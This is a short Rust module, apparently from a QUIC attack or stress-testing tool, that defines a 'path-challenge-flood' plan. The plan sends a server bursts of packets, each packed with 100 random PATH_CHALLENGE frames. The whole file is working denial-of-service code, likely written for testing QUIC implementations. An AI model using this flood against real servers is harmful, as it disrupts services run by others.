//! Endless PATH_CHALLENGE frames.

use courser_wire::{Frame, PathChallenge};

use crate::attack::{Plan, Victim};
use crate::encode;

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "path-challenge-flood",
    labels: &["A32"],
    summary: "packets full of PATH_CHALLENGE frames",
    victim: Victim::Server,
    make: || Box::new(path_challenge_flood()),
};

fn path_challenge_flood() -> Crowd {
    Crowd::of_packets(2, BURST, |connection, _| {
        let challenges = std::iter::repeat_with(|| {
            let data = connection.rng().array();
            encode(&Frame::PathChallenge(PathChallenge { data }))
        });
        challenges.take(FRAMES).collect()
    })
}

/// Packets of one connection in one turn.
const BURST: usize = 8;

/// Frames in one packet.
const FRAMES: usize = 100;
